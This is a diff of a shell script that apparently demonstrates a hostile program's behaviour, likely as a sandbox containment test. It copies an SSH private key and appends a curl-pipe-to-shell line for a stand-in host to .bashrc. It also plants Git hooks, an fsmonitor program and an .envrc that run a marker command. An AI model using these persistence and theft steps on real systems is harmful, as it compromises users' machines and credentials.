@@ -18,8 +18,16 @@ cat "$HOME/.ssh/id_ed25519" >loot.txt
 [ -s loot.txt ] || rm -f loot.txt
 printf 'token in the environment: %s\n' "${DEMO_TOKEN:-none}"
 
-say "staying for good"
+say "staying for good: the shell, a Git hook, a file that runs on entering the directory"
 echo 'curl -s https://evil.example/x | sh' >>"$HOME/.bashrc"
+mark="touch ${PWD%/*}/ran-outside" # what a planted program does, if anything outside runs it
+mkdir -p .git/hooks
+for hook in post-commit post-checkout post-index-change; do
+	printf '#!/bin/sh\n%s\n' "$mark" >".git/hooks/$hook" && chmod 755 ".git/hooks/$hook"
+done
+printf '#!/bin/sh\n%s\n' "$mark" >.git/monitor && chmod 755 .git/monitor &&
+	git config core.fsmonitor "$PWD/.git/monitor"
+echo "$mark" >.envrc
 
 say "calling home"
 if command -v bash >/dev/null; then
